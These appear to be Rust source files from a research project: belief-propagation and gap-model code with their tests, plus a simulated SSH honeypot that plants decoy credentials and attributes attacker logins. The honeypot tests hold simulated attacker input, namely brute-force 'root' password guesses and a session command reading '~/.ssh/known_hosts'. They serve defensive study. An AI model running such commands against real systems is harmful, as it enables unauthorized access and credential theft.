pub fn quantize_gap(boundaries_secs: &[f64], gap_secs: f64) -> usize {
    boundaries_secs
        .iter()
        .position(|&b| gap_secs < b)
        .unwrap_or(boundaries_secs.len())
}

/// Accumulates `(state, gap bin)` counts and finalizes into a [`GapModel`]
/// with add-k smoothing — the timing counterpart of
/// [`crate::learn::ChainLearner`], kept separate so order-only training
/// paths pay nothing.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct GapLearner {
    n_states: usize,
    boundaries_secs: Vec<f64>,
    smoothing: f64,
    counts: Vec<f64>,
    neutral_below_secs: f64,
}

impl GapLearner {
    pub fn new(n_states: usize, boundaries_secs: Vec<f64>, smoothing: f64) -> GapLearner {
        assert!(smoothing >= 0.0);
        let n_bins = boundaries_secs.len() + 1;
        GapLearner {
            n_states,
            boundaries_secs,
            smoothing,
            counts: vec![0.0; n_states * n_bins],
            neutral_below_secs: 0.0,
        }
    }

    /// Skip gaps shorter than `secs` during learning and stamp the same
    /// guard on the built [`GapModel`] (see
    /// [`GapModel::with_neutral_below`]).
    pub fn with_neutral_below(mut self, secs: f64) -> GapLearner {
        assert!(secs >= 0.0 && secs.is_finite());
        self.neutral_below_secs = secs;
        self
    }

    fn n_bins(&self) -> usize {
        self.boundaries_secs.len() + 1
    }

    /// Count one labeled gap observation with a weight. Gaps under the
    /// neutral guard are skipped — they will be neutral online too.
    pub fn observe_weighted(&mut self, state: usize, gap_secs: f64, weight: f64) {
        assert!(state < self.n_states, "state out of range");
        if weight <= 0.0
            || !gap_secs.is_finite()
            || gap_secs < 0.0
            || gap_secs < self.neutral_below_secs
        {
            return;
        }
        let bin = quantize_gap(&self.boundaries_secs, gap_secs);
        let idx = state * self.n_bins() + bin;
        self.counts[idx] += weight;
    }

    /// Count one labeled gap observation.
    pub fn observe(&mut self, state: usize, gap_secs: f64) {
        self.observe_weighted(state, gap_secs, 1.0);
    }

    /// Finalize into a [`GapModel`]. `floor` mixes each learned row with
    /// the uniform distribution (`row ← (1-floor)·row + floor·uniform`),
    /// bounding the per-step likelihood ratio any single gap observation
    /// can contribute — the knob that trades recovery-under-dilation
    /// against false-positive growth.
    pub fn build(&self, floor: f64) -> GapModel {
        assert!((0.0..=1.0).contains(&floor), "floor must be in [0, 1]");
        let n_bins = self.n_bins();
        let uniform = 1.0 / n_bins as f64;
        let mut emit = vec![0.0; self.n_states * n_bins];
        for s in 0..self.n_states {
            let row = &self.counts[s * n_bins..(s + 1) * n_bins];
            let total: f64 = row.iter().sum::<f64>() + self.smoothing * n_bins as f64;
            for b in 0..n_bins {
                let learned = if total > 0.0 {
                    (row[b] + self.smoothing) / total
                } else {
                    uniform
                };
                emit[s * n_bins + b] = (1.0 - floor) * learned + floor * uniform;
            }
        }
        GapModel::new(self.n_states, self.boundaries_secs.clone(), emit)
            .with_neutral_below(self.neutral_below_secs)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quantization_edges() {
        let b = [60.0, 3600.0];
        assert_eq!(quantize_gap(&b, 0.0), 0);
        assert_eq!(quantize_gap(&b, 59.9), 0);
        assert_eq!(quantize_gap(&b, 60.0), 1);
        assert_eq!(quantize_gap(&b, 3599.9), 1);
        assert_eq!(quantize_gap(&b, 3600.0), 2);
        assert_eq!(quantize_gap(&b, f64::INFINITY), 2);
    }

    #[test]
    fn learned_rows_are_distributions() {
        let mut l = GapLearner::new(2, vec![60.0, 3600.0], 0.1);
        l.observe(0, 5.0);
        l.observe(0, 5.0);
        l.observe(1, 10_000.0);
        let m = l.build(0.0);
        for s in 0..2 {
            let sum: f64 = (0..m.n_bins()).map(|b| m.emit(s, b)).sum();
            assert!((sum - 1.0).abs() < 1e-9);
        }
        assert!(m.emit(0, 0) > m.emit(0, 2));
        assert!(m.emit(1, 2) > m.emit(1, 0));
    }

    #[test]
    fn floor_bounds_likelihood_ratios() {
        let mut l = GapLearner::new(2, vec![60.0], 0.0);
        // State 0 only ever short gaps, state 1 only ever long.
        for _ in 0..1000 {
            l.observe(0, 1.0);
            l.observe(1, 1000.0);
        }
        let sharp = l.build(0.0);
        let floored = l.build(0.5);
        let ratio = |m: &GapModel| m.emit(1, 1) / m.emit(0, 1);
        assert!(ratio(&sharp) > ratio(&floored));
        // With a 0.5 floor, each row holds >= 0.25 on every bin.
        for s in 0..2 {
            for b in 0..2 {
                assert!(floored.emit(s, b) >= 0.25 - 1e-12);
            }
        }
    }

    #[test]
    fn gap_none_is_neutral() {
        let m = GapModel::new(1, vec![60.0], vec![0.9, 0.1]);
        assert_eq!(m.emit(0, GAP_NONE), 1.0);
    }

    #[test]
    fn unseen_state_rows_are_uniform() {
        let l = GapLearner::new(3, vec![60.0, 600.0], 0.0);
        let m = l.build(0.0);
        for b in 0..3 {
            assert!((m.emit(2, b) - 1.0 / 3.0).abs() < 1e-12);
        }
    }

    #[test]
    fn invalid_models_rejected() {
        for bad in [
            // Unsorted boundaries.
            (vec![60.0, 10.0], vec![0.5; 6]),
            // Non-distribution row.
            (vec![60.0], vec![0.9, 0.9]),
        ] {
            let (bounds, emit) = bad;
            assert!(std::panic::catch_unwind(|| GapModel::new(2, bounds, emit)).is_err());
        }
    }
}
