//! Discrete random variables.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Identifier of a variable within a [`crate::graph::FactorGraph`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct VarId(pub u32);

impl fmt::Display for VarId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "x{}", self.0)
    }
}

/// A discrete variable with cardinality `card` (values `0..card`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Variable {
    pub id: VarId,
    pub card: usize,
}

impl Variable {
    pub fn new(id: VarId, card: usize) -> Self {
        assert!(card > 0, "variable {id} must have positive cardinality");
        Variable { id, card }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn construction() {
        let v = Variable::new(VarId(3), 4);
        assert_eq!(v.id, VarId(3));
        assert_eq!(v.card, 4);
        assert_eq!(v.id.to_string(), "x3");
    }

    #[test]
    fn zero_cardinality_rejected() {
        assert!(std::panic::catch_unwind(|| Variable::new(VarId(0), 0)).is_err());
    }
}
