//! Asserts the engine's core contract: once a [`BpWorkspace`] has been
//! built for a graph shape, repeated serial-schedule runs perform zero
//! heap allocation — for sum-product and max-product, on chains and on
//! loopy skip-chain-style graphs, including in-place table refreshes
//! between runs.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

use factorgraph::chain::ChainGraphBuffer;
use factorgraph::factor::Factor;
use factorgraph::graph::FactorGraph;
use factorgraph::sumproduct::{run_in, BpOptions, BpSchedule, BpWorkspace};
use factorgraph::{maxproduct, ChainModel, VarId};

struct CountingAllocator;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Serializes whole tests: the harness runs tests on parallel threads
/// and the allocation counter is process-global, so each test takes this
/// lock for its entire body (via [`serialized`]) to keep other tests'
/// setup allocations out of its measurements.
static MEASURE: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn serialized<T>(f: impl FnOnce() -> T) -> T {
    let _guard = MEASURE.lock().unwrap_or_else(|p| p.into_inner());
    f()
}

fn allocations<T>(f: impl FnOnce() -> T) -> (u64, T) {
    let before = ALLOCATIONS.load(Ordering::Relaxed);
    let out = f();
    (ALLOCATIONS.load(Ordering::Relaxed) - before, out)
}

fn toy_model() -> ChainModel {
    ChainModel::new(
        3,
        4,
        vec![0.5, 0.3, 0.2],
        vec![0.6, 0.3, 0.1, 0.2, 0.5, 0.3, 0.1, 0.2, 0.7],
        vec![0.4, 0.3, 0.2, 0.1, 0.1, 0.4, 0.3, 0.2, 0.2, 0.1, 0.3, 0.4],
    )
}

/// A loopy skip-chain-shaped graph: a chain plus agreement links, as the
/// session model builds.
fn skip_chain_graph(n: usize) -> FactorGraph {
    let model = toy_model();
    let obs: Vec<usize> = (0..n).map(|t| (t * 7) % 4).collect();
    let mut g = model.to_factor_graph(&obs);
    for (a, b) in [(0u32, (n / 2) as u32), (1u32, (n - 1) as u32)] {
        g.add_factor(Factor::from_fn(vec![VarId(a), VarId(b)], vec![3, 3], |v| {
            if v[0] == v[1] {
                0.8
            } else {
                0.1
            }
        }));
    }
    g
}

#[test]
fn sum_product_steady_state_allocates_nothing() {
    serialized(|| {
        let g = skip_chain_graph(24);
        let opts = BpOptions {
            damping: 0.3,
            ..Default::default()
        };
        let mut ws = BpWorkspace::new(&g);
        // Warm the workspace (builds the shape index once).
        run_in(&g, &opts, &mut ws);
        let (allocs, stats) = allocations(|| {
            let mut last = None;
            for _ in 0..50 {
                last = Some(run_in(&g, &opts, &mut ws));
            }
            last.unwrap()
        });
        assert!(stats.converged, "sanity: the warm runs actually converge");
        assert_eq!(allocs, 0, "steady-state sum-product run must not allocate");
        // The marginals are readable without allocating, too.
        let (allocs, mass) = allocations(|| ws.marginal(VarId(0)).iter().sum::<f64>());
        assert_eq!(allocs, 0);
        assert!((mass - 1.0).abs() < 1e-9);
    });
}

#[test]
fn max_product_steady_state_allocates_nothing() {
    serialized(|| {
        let g = skip_chain_graph(16);
        let opts = BpOptions {
            damping: 0.3,
            ..Default::default()
        };
        let mut ws = BpWorkspace::new(&g);
        let mut decode = Vec::with_capacity(64);
        maxproduct::run_in(&g, &opts, &mut ws);
        ws.map_assignment_into(&mut decode);
        let (allocs, _) = allocations(|| {
            for _ in 0..50 {
                maxproduct::run_in(&g, &opts, &mut ws);
                ws.map_assignment_into(&mut decode);
            }
        });
        assert_eq!(allocs, 0, "steady-state max-product run must not allocate");
        assert_eq!(decode.len(), 16);
    });
}

#[test]
fn chain_refill_plus_inference_allocates_nothing() {
    serialized(|| {
        // The full per-session hot path at steady state: rewrite the chain's
        // factor tables in place for a new observation sequence, then run BP
        // in the reused workspace.
        let model = toy_model();
        let mut buf = ChainGraphBuffer::new();
        let mut ws = BpWorkspace::default();
        let obs_a: Vec<usize> = (0..32).map(|t| t % 4).collect();
        let obs_b: Vec<usize> = (0..32).map(|t| (t * 3 + 1) % 4).collect();
        model.fill_factor_graph(&obs_a, &mut buf);
        run_in(buf.graph(), &BpOptions::default(), &mut ws);
        let (allocs, _) = allocations(|| {
            for obs in [&obs_b, &obs_a, &obs_b] {
                model.fill_factor_graph(obs, &mut buf);
                run_in(buf.graph(), &BpOptions::default(), &mut ws);
            }
        });
        assert_eq!(allocs, 0, "same-shape refill + inference must not allocate");
        // Different observations must still give different answers (the
        // refresh really rewrites the tables).
        model.fill_factor_graph(&obs_a, &mut buf);
        run_in(buf.graph(), &BpOptions::default(), &mut ws);
        let a0 = ws.marginal(VarId(0)).to_vec();
        model.fill_factor_graph(&obs_b, &mut buf);
        run_in(buf.graph(), &BpOptions::default(), &mut ws);
        let b0 = ws.marginal(VarId(0)).to_vec();
        assert_ne!(a0, b0);
    });
}

#[test]
fn residual_schedule_steady_state_allocates_nothing() {
    serialized(|| {
        let g = skip_chain_graph(12);
        let opts = BpOptions {
            damping: 0.3,
            schedule: BpSchedule::Residual,
            ..Default::default()
        };
        let mut ws = BpWorkspace::new(&g);
        run_in(&g, &opts, &mut ws);
        let (allocs, stats) = allocations(|| run_in(&g, &opts, &mut ws));
        assert!(stats.converged);
        assert_eq!(
            allocs, 0,
            "residual schedule must reuse its preallocated heap"
        );
    });
}

#[test]
fn shape_change_rebuilds_then_settles() {
    serialized(|| {
        let opts = BpOptions {
            damping: 0.3,
            ..Default::default()
        };
        let g1 = skip_chain_graph(8);
        let g2 = skip_chain_graph(10);
        let mut ws = BpWorkspace::new(&g1);
        run_in(&g1, &opts, &mut ws);
        let (allocs, _) = allocations(|| run_in(&g2, &opts, &mut ws));
        assert!(allocs > 0, "shape change must rebuild the index");
        let (allocs, _) = allocations(|| run_in(&g2, &opts, &mut ws));
        assert_eq!(allocs, 0, "and settle back to the allocation-free state");
    });
}
