//! Property tests for the stride/arena BP engine (proptest):
//!
//! - on random small **forests**, every schedule of the optimized engine
//!   reproduces the exact brute-force marginals;
//! - on random **loopy** graphs, the optimized flooding schedule matches
//!   the seed flooding implementation (`sumproduct::reference`) message
//!   for message, and the alternative schedules land within loopy-BP
//!   tolerance of it;
//! - max-product on random chains agrees with Viterbi.

#![allow(clippy::needless_range_loop)] // index form mirrors the math

use factorgraph::factor::Factor;
use factorgraph::graph::FactorGraph;
use factorgraph::sumproduct::{
    brute_force_marginals, reference, run, run_in, BpOptions, BpSchedule, BpWorkspace,
};
use factorgraph::{maxproduct, ChainModel, VarId};
use proptest::prelude::*;

/// Deterministic pseudo-random positive table entry in (0.05, 1.05).
fn entry(seed: u64, salt: u64) -> f64 {
    let mut z = seed ^ salt.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    0.05 + (z >> 11) as f64 / (1u64 << 53) as f64
}

/// A random forest: variables with random cardinalities, a unary prior
/// each, and pairwise factors that never close a cycle (each variable
/// attaches to one earlier variable).
fn random_forest(seed: u64, nv: usize, max_card: usize) -> FactorGraph {
    let mut g = FactorGraph::new();
    let cards: Vec<usize> = (0..nv)
        .map(|i| 1 + (entry(seed, i as u64) * max_card as f64) as usize % max_card)
        .collect();
    let vars: Vec<VarId> = cards.iter().map(|&c| g.add_variable(c)).collect();
    for (i, &v) in vars.iter().enumerate() {
        let c = cards[i];
        g.add_factor(Factor::from_fn(vec![v], vec![c], |a| {
            entry(seed, 1000 + (i * 7 + a[0]) as u64)
        }));
        if i > 0 {
            // Attach to a pseudo-random earlier variable: still a forest.
            let parent = (entry(seed, 2000 + i as u64) * i as f64) as usize % i;
            let (pv, pc) = (vars[parent], cards[parent]);
            g.add_factor(Factor::from_fn(vec![pv, v], vec![pc, c], |a| {
                entry(seed, 3000 + (i * 31 + a[0] * 5 + a[1]) as u64)
            }));
        }
    }
    g
}

/// A random loopy graph: a ring of pairwise factors plus chords.
fn random_loopy(seed: u64, nv: usize, chords: usize) -> FactorGraph {
    let mut g = FactorGraph::new();
    let card = 2 + (seed % 2) as usize;
    let vars: Vec<VarId> = (0..nv).map(|_| g.add_variable(card)).collect();
    g.add_factor(Factor::from_fn(vec![vars[0]], vec![card], |a| {
        entry(seed, a[0] as u64)
    }));
    for i in 0..nv {
        let (a, b) = (vars[i], vars[(i + 1) % nv]);
        g.add_factor(Factor::from_fn(vec![a, b], vec![card, card], |v| {
            entry(seed, 100 + (i * 17 + v[0] * 3 + v[1]) as u64)
        }));
    }
    for k in 0..chords {
        let i = (entry(seed, 500 + k as u64) * nv as f64) as usize % nv;
        let j = (i + nv / 2) % nv;
        if i != j {
            g.add_factor(Factor::from_fn(
                vec![vars[i.min(j)], vars[i.max(j)]],
                vec![card, card],
                |v| entry(seed, 900 + (k * 13 + v[0] * 7 + v[1]) as u64),
            ));
        }
    }
    g
}

fn close(a: &[f64], b: &[f64], tol: f64) -> bool {
    a.len() == b.len() && a.iter().zip(b).all(|(x, y)| (x - y).abs() < tol)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Forests: the optimized engine is exact, on every schedule.
    #[test]
    fn forest_marginals_match_brute_force(seed in 0u64..10_000, nv in 1usize..7) {
        let g = random_forest(seed, nv, 3);
        prop_assert!(g.is_forest());
        let exact = brute_force_marginals(&g);
        for schedule in [BpSchedule::Flood, BpSchedule::ParallelFlood, BpSchedule::Residual] {
            let r = run(&g, &BpOptions { schedule, ..Default::default() });
            prop_assert!(r.converged, "{schedule:?} did not converge");
            for (vi, m) in exact.iter().enumerate() {
                prop_assert!(
                    close(&r.marginals[vi], m, 1e-7),
                    "{schedule:?} var {vi}: {:?} vs {:?}", r.marginals[vi], m
                );
            }
        }
    }

    /// Loopy graphs: the optimized flooding schedule reproduces the seed
    /// flooding implementation essentially exactly (same schedule, same
    /// damping, same normalization — only the storage changed), and the
    /// other schedules agree within loopy-BP tolerance.
    #[test]
    fn loopy_flooding_matches_seed_implementation(seed in 0u64..10_000, nv in 3usize..8, chords in 0usize..3) {
        let g = random_loopy(seed, nv, chords);
        let opts = BpOptions { damping: 0.3, max_iters: 300, ..Default::default() };
        let slow = reference::run(&g, &opts);
        let fast = run(&g, &opts);
        prop_assert_eq!(fast.converged, slow.converged);
        prop_assert_eq!(fast.iterations, slow.iterations);
        for vi in 0..g.num_variables() {
            prop_assert!(
                close(&fast.marginals[vi], &slow.marginals[vi], 1e-9),
                "var {}: {:?} vs {:?}", vi, fast.marginals[vi], slow.marginals[vi]
            );
        }
        if slow.converged {
            for schedule in [BpSchedule::ParallelFlood, BpSchedule::Residual] {
                let alt = run(&g, &BpOptions { schedule, ..opts.clone() });
                prop_assert!(alt.converged, "{schedule:?}");
                for vi in 0..g.num_variables() {
                    prop_assert!(
                        close(&alt.marginals[vi], &slow.marginals[vi], 1e-3),
                        "{schedule:?} var {}: {:?} vs {:?}",
                        vi, alt.marginals[vi], slow.marginals[vi]
                    );
                }
            }
        }
    }

    /// Workspace reuse across random same-length chains changes no
    /// answers relative to fresh runs.
    #[test]
    fn workspace_reuse_is_transparent(seed in 0u64..10_000, len in 1usize..9) {
        let s = 3usize;
        let o = 4usize;
        let dirich = |salt: u64, n: usize| -> Vec<f64> {
            let raw: Vec<f64> = (0..n).map(|i| entry(seed, salt + i as u64)).collect();
            let sum: f64 = raw.iter().sum();
            raw.into_iter().map(|x| x / sum).collect()
        };
        let prior = dirich(1, s);
        let trans: Vec<f64> = (0..s).flat_map(|r| dirich(10 + r as u64, s)).collect();
        let emit: Vec<f64> = (0..s).flat_map(|r| dirich(20 + r as u64, o)).collect();
        let m = ChainModel::new(s, o, prior, trans, emit);
        let mut ws = BpWorkspace::default();
        for round in 0..3u64 {
            let obs: Vec<usize> =
                (0..len).map(|t| (entry(seed, 40 + round * 64 + t as u64) * o as f64) as usize % o).collect();
            let g = m.to_factor_graph(&obs);
            run_in(&g, &BpOptions::default(), &mut ws);
            let fb = m.posteriors(&obs);
            for (t, gamma) in fb.iter().enumerate() {
                prop_assert!(
                    close(ws.marginal(VarId(t as u32)), gamma, 1e-7),
                    "round {} t {}", round, t
                );
            }
        }
    }

    /// Max-product on random chains = Viterbi.
    #[test]
    fn max_product_matches_viterbi(seed in 0u64..10_000, len in 1usize..9) {
        let s = 3usize;
        let o = 3usize;
        let dirich = |salt: u64, n: usize| -> Vec<f64> {
            let raw: Vec<f64> = (0..n).map(|i| entry(seed, salt + i as u64)).collect();
            let sum: f64 = raw.iter().sum();
            raw.into_iter().map(|x| x / sum).collect()
        };
        let m = ChainModel::new(
            s,
            o,
            dirich(1, s),
            (0..s).flat_map(|r| dirich(10 + r as u64, s)).collect(),
            (0..s).flat_map(|r| dirich(20 + r as u64, o)).collect(),
        );
        let obs: Vec<usize> =
            (0..len).map(|t| (entry(seed, 99 + t as u64) * o as f64) as usize % o).collect();
        let (vit, vit_logp) = m.viterbi(&obs);
        let g = m.to_factor_graph(&obs);
        let r = maxproduct::run(&g, &BpOptions::default());
        prop_assert!(r.converged);
        // Per-variable argmax decoding is only unambiguous when no
        // variable's max-marginal has a (numerical) tie at the top; random
        // chains do hit genuine ties (verified against brute force), and
        // there any tie-break is admissible — so only the tie-free cases
        // pin the exact Viterbi path.
        let tied = r.beliefs.iter().any(|b| {
            let mut sorted = b.clone();
            sorted.sort_by(|a, b| b.partial_cmp(a).unwrap());
            sorted.len() > 1 && (sorted[0] - sorted[1]).abs() < 1e-9
        });
        if !tied {
            prop_assert_eq!(&r.assignment, &vit, "obs {:?}", obs);
            // And the decode achieves the Viterbi log-probability.
            let mut p = m.prior()[r.assignment[0]].ln() + m.emit(r.assignment[0], obs[0]).ln();
            for t in 1..len {
                p += m.trans(r.assignment[t - 1], r.assignment[t]).ln()
                    + m.emit(r.assignment[t], obs[t]).ln();
            }
            prop_assert!((p - vit_logp).abs() < 1e-9);
        }
    }
}
