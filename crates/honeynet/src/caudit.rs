//! CAUDIT-style SSH honeypot deployment.
//!
//! The testbed is "a successor to our previously deployed Secure Shell
//! (SSH) honeypot at NCSA" (CAUDIT, ref [7]). This module deploys SSH
//! emulators on the honeynet entry points, plants channel-unique leaked
//! credentials (§IV-B), captures every authentication attempt, attributes
//! successful uses of planted secrets to the leak channel the attacker
//! read, and emits the observable actions for the monitoring pipeline.

use std::net::Ipv4Addr;

use simnet::action::{Action, AuthMethod, ExecAction, SshAuthAction};
use simnet::flow::{ConnState, Flow, FlowId, Service};
use simnet::rng::{FxHashMap, SimRng};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::HostId;

use crate::hints::{HintPublisher, LeakChannel};
use crate::ssh_svc::SshEmulator;

/// Deployment statistics.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CauditStats {
    pub attempts: u64,
    pub successes: u64,
    /// Successful logins traced to a planted hint.
    pub attributed: u64,
}

/// The SSH honeypot fleet.
pub struct CauditHoneypot {
    emulators: FxHashMap<Ipv4Addr, SshEmulator>,
    targets: FxHashMap<Ipv4Addr, HostId>,
    publisher: HintPublisher,
    per_channel: FxHashMap<LeakChannel, u64>,
    next_flow: u64,
    stats: CauditStats,
}

impl CauditHoneypot {
    /// Deploy on the given entry points (address → backing container
    /// host), planting one hint per leak channel for `ghost_user`.
    pub fn deploy(
        rng: &mut SimRng,
        entries: &[(Ipv4Addr, HostId)],
        ghost_user: &str,
    ) -> CauditHoneypot {
        let mut publisher = HintPublisher::new();
        let first_url = entries
            .first()
            .map(|(a, _)| format!("ssh://{ghost_user}@{a}"))
            .unwrap_or_else(|| format!("ssh://{ghost_user}@honeypot"));
        publisher.plant_all(rng, ghost_user, &first_url);
        let accepted = publisher.credentials();
        let mut emulators = FxHashMap::default();
        let mut targets = FxHashMap::default();
        for (addr, host) in entries {
            emulators.insert(*addr, SshEmulator::new(accepted.clone()));
            targets.insert(*addr, *host);
        }
        CauditHoneypot {
            emulators,
            targets,
            publisher,
            per_channel: FxHashMap::default(),
            next_flow: 0xCA_0000,
            stats: CauditStats::default(),
        }
    }

    /// The planted hints (for scenario scripts that "leak" them).
    pub fn publisher(&self) -> &HintPublisher {
        &self.publisher
    }

    pub fn stats(&self) -> CauditStats {
        self.stats
    }

    fn fresh_flow(&mut self, t: SimTime, src: Ipv4Addr, dst: Ipv4Addr, ok: bool) -> Flow {
        self.next_flow += 1;
        Flow {
            id: FlowId(self.next_flow),
            start: t,
            duration: SimDuration::from_secs(if ok { 20 } else { 1 }),
            src,
            src_port: 42_000 + (self.next_flow % 10_000) as u16,
            dst,
            dst_port: 22,
            proto: simnet::flow::Proto::Tcp,
            state: if ok { ConnState::SF } else { ConnState::Rstr },
            service: Service::Ssh,
            orig_bytes: 2_100,
            resp_bytes: 1_400,
        }
    }

    /// An authentication attempt against an entry point. Returns success,
    /// the attributed leak channel (when a planted secret was used), and
    /// the observable action.
    pub fn attempt(
        &mut self,
        t: SimTime,
        src: Ipv4Addr,
        entry: Ipv4Addr,
        user: &str,
        secret: &str,
    ) -> (bool, Option<LeakChannel>, Vec<(SimTime, Action)>) {
        let Some(target) = self.targets.get(&entry).copied() else {
            return (false, None, Vec::new());
        };
        self.stats.attempts += 1;
        let em = self
            .emulators
            .get_mut(&entry)
            .expect("target implies emulator");
        use crate::service::VulnerableService;
        let success = em.try_auth(user, secret);
        let channel = if success {
            let ch = self.publisher.attribute(secret);
            if let Some(ch) = ch {
                self.stats.attributed += 1;
                *self.per_channel.entry(ch).or_insert(0) += 1;
            }
            ch
        } else {
            None
        };
        if success {
            self.stats.successes += 1;
        }
        let flow = self.fresh_flow(t, src, entry, success);
        let action = Action::SshAuth(SshAuthAction {
            flow,
            target: Some(target),
            user: user.to_string(),
            method: AuthMethod::Password,
            success,
            client_banner: "SSH-2.0-libssh2_1.9".into(),
        });
        (success, channel, vec![(t, action)])
    }

    /// A command in an authenticated session: observable as a process
    /// execution on the backing container host.
    pub fn command(
        &mut self,
        t: SimTime,
        entry: Ipv4Addr,
        user: &str,
        cmdline: &str,
    ) -> Vec<(SimTime, Action)> {
        let Some(target) = self.targets.get(&entry).copied() else {
            return Vec::new();
        };
        self.next_flow += 1;
        vec![(
            t,
            Action::Exec(ExecAction {
                host: target,
                user: user.to_string(),
                pid: (self.next_flow & 0xFFFF) as u32,
                ppid: 1,
                exe: "/bin/bash".into(),
                cmdline: cmdline.to_string(),
            }),
        )]
    }

    /// Attribution report: successful planted-credential uses per channel
    /// — the §IV-B "trace an individual attacker's tactics" capability.
    pub fn attribution_report(&self) -> Vec<(LeakChannel, u64)> {
        let mut v: Vec<(LeakChannel, u64)> =
            self.per_channel.iter().map(|(c, n)| (*c, *n)).collect();
        v.sort_by_key(|(c, _)| c.as_str());
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn deployed() -> (CauditHoneypot, Vec<Ipv4Addr>) {
        let mut rng = SimRng::seed(31);
        let entries: Vec<(Ipv4Addr, HostId)> = (0..4)
            .map(|i| {
                (
                    format!("141.142.77.{}", 10 + i).parse().unwrap(),
                    HostId(100 + i as u32),
                )
            })
            .collect();
        let pot = CauditHoneypot::deploy(&mut rng, &entries, "svcbackup");
        let addrs = entries.iter().map(|(a, _)| *a).collect();
        (pot, addrs)
    }

    #[test]
    fn planted_credentials_attributed_to_their_channel() {
        let (mut pot, addrs) = deployed();
        let hints: Vec<_> = pot.publisher().hints().to_vec();
        assert_eq!(hints.len(), 4, "one hint per channel");
        let src: Ipv4Addr = "91.247.1.1".parse().unwrap();
        for hint in &hints {
            let (ok, channel, actions) = pot.attempt(
                SimTime::from_secs(1),
                src,
                addrs[0],
                &hint.credential.user,
                &hint.credential.secret,
            );
            assert!(ok);
            assert_eq!(channel, Some(hint.channel));
            assert_eq!(actions.len(), 1);
        }
        let report = pot.attribution_report();
        assert_eq!(report.len(), 4);
        assert!(report.iter().all(|(_, n)| *n == 1));
        assert_eq!(pot.stats().attributed, 4);
    }

    #[test]
    fn brute_force_fails_and_is_counted() {
        let (mut pot, addrs) = deployed();
        let src: Ipv4Addr = "91.247.1.1".parse().unwrap();
        for i in 0..10u64 {
            let (ok, ch, actions) = pot.attempt(
                SimTime::from_secs(i),
                src,
                addrs[1],
                "root",
                &format!("password{i}"),
            );
            assert!(!ok);
            assert!(ch.is_none());
            // Failed auth is still observable.
            match &actions[0].1 {
                Action::SshAuth(a) => assert!(!a.success),
                other => panic!("unexpected {other:?}"),
            }
        }
        assert_eq!(pot.stats().attempts, 10);
        assert_eq!(pot.stats().successes, 0);
    }

    #[test]
    fn commands_observable_on_container_host() {
        let (mut pot, addrs) = deployed();
        let actions = pot.command(
            SimTime::from_secs(5),
            addrs[2],
            "svcbackup",
            "cat ~/.ssh/known_hosts",
        );
        match &actions[0].1 {
            Action::Exec(e) => {
                assert_eq!(e.host, HostId(102));
                assert!(e.cmdline.contains("known_hosts"));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn unknown_entry_rejected() {
        let (mut pot, _) = deployed();
        let (ok, ch, actions) = pot.attempt(
            SimTime::from_secs(0),
            "1.1.1.1".parse().unwrap(),
            "10.0.0.1".parse().unwrap(),
            "x",
            "y",
        );
        assert!(!ok && ch.is_none() && actions.is_empty());
        assert!(pot
            .command(
                SimTime::from_secs(0),
                "10.0.0.1".parse().unwrap(),
                "x",
                "id"
            )
            .is_empty());
    }

    #[test]
    fn end_to_end_attempt_symbolizes_to_ghost_account_alert() {
        // A planted-hint login must surface as alert_ghost_account_login
        // once the symbolizer is configured with the ghost user.
        let (mut pot, addrs) = deployed();
        let hint = pot.publisher().hints()[0].clone();
        let src: Ipv4Addr = "91.247.1.1".parse().unwrap();
        let (_, _, actions) = pot.attempt(
            SimTime::from_secs(1),
            src,
            addrs[0],
            &hint.credential.user,
            &hint.credential.secret,
        );
        let Action::SshAuth(auth) = &actions[0].1 else {
            panic!("expected ssh auth")
        };
        let record = telemetry::record::LogRecord::Ssh(telemetry::record::SshRecord {
            ts: actions[0].0,
            uid: auth.flow.id,
            orig_h: auth.flow.src,
            resp_h: auth.flow.dst,
            user: auth.user.as_str().into(),
            method: auth.method,
            success: auth.success,
            client_banner: auth.client_banner.as_str().into(),
            direction: simnet::flow::Direction::Inbound,
        });
        let mut sym = alertlib::Symbolizer::with_defaults(); // ghost list has svcbackup
        let alerts = sym.symbolize(&record);
        assert!(alerts
            .iter()
            .any(|a| a.kind == alertlib::AlertKind::GhostAccountLogin));
    }
}
