//! Container and VM lifecycle.
//!
//! §IV-C's containment strategy: honeypot services run in Linux containers
//! encapsulated in QEMU VMs with limited capabilities; instances are
//! launched from an **immutable image** and are **short-lived** — each is
//! destroyed and reprovisioned after collecting attack traces, bounding the
//! blast radius of a compromise.

use serde::{Deserialize, Serialize};
use simnet::time::{SimDuration, SimTime};

use crate::vrt::Snapshot;

/// An immutable container image built by the VRT tool.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ContainerImage {
    pub name: String,
    pub snapshot: Snapshot,
